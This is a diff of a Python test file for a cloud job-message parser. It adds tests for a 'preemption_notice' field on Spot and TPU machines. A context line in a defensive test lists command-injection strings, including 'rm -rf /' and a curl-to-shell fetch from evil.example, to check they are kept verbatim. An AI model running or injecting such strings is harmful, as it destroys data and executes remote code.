@@ -192,6 +192,38 @@ def test_a_bad_hang_timeout_says_what_is_allowed(value: Any, problem: str) -> No
     assert err.field == "hang_timeout" and problem in str(err)
 
 
+@pytest.mark.parametrize(("value", "seconds"), [("off", None), (None, None), ("90s", 90), ("2m", 120), (3600, 3600)])
+def test_preemption_notice_forms(value: Any, seconds: int | None) -> None:
+    default = parse_job_message(compute_message("v6e-8"))
+    assert isinstance(default, JobSpec) and default.preemption_notice_s is None
+    spec = parse_job_message({**compute_message("v6e-8"), "preemption_notice": value})
+    assert isinstance(spec, JobSpec) and spec.preemption_notice_s == seconds
+    assert parse_job_message(json.loads(json.dumps(spec_to_message(spec)))) == spec
+    gpu = parse_job_message(with_change("machine", gpu_machine(), {**tpu_message(), "preemption_notice": "1m"}))
+    assert isinstance(gpu, JobSpec) and gpu.preemption_notice_s == 60  # a GPU VM is a Compute Engine instance
+
+
+@pytest.mark.parametrize(
+    ("changes", "problem"),
+    [
+        ({"preemption_notice": "0s"}, '"0s" is out of range; allowed: off, or a duration from 1s to 1h like 90s'),
+        ({"preemption_notice": "2h"}, '"2h" is out of range'),
+        ({"preemption_notice": "soon"}, '"soon" is not a duration'),
+        ({"preemption_notice": True}, "expected a duration string or an integer, got a boolean"),
+        ({"preemption_notice": "1m", "provisioning": "standard"}, "only a Spot VM gets it, and no tier is spot"),
+    ],
+)
+def test_a_bad_preemption_notice_says_what_is_allowed(changes: dict[str, Any], problem: str) -> None:
+    err = error_of({**compute_message("v6e-8"), **changes})
+    assert err.field == "preemption_notice" and problem in str(err)
+
+
+def test_the_cloud_tpu_api_has_no_preemption_notice_to_ask_for() -> None:
+    err = error_of({**tpu_message(), "preemption_notice": "1m"})
+    assert err.field == "preemption_notice" and "the Cloud TPU API has no preemption notice" in str(err)
+    assert 'machine.api "compute"' in err.allowed
+
+
 def test_hostile_strings_in_args_and_env_values_are_kept_verbatim() -> None:
     """Args and env values are data (quoted downstream, never interpolated): kept byte for byte."""
     hostile = ["; rm -rf / #", "$(curl evil.example | sh)", "`id`", "a'b\"c", "line1\nline2", "&& || > < * ? ~ !"]
@@ -403,7 +435,7 @@ def test_unknown_field_lists_the_allowed_fields() -> None:
     assert str(err) == (
         'job message: field "priority": unknown field; allowed: action, job_id, machine, zones, provisioning, '
         "image, args, env, secrets, checkpoint_uri, ttl, max_preemptions, max_failures, labels, hang_timeout, tiers, "
-        "max_run_duration, placement, head_start"
+        "max_run_duration, placement, head_start, preemption_notice"
     )
     err = error_of(with_change("machine.topology", "2x4"))
     assert (
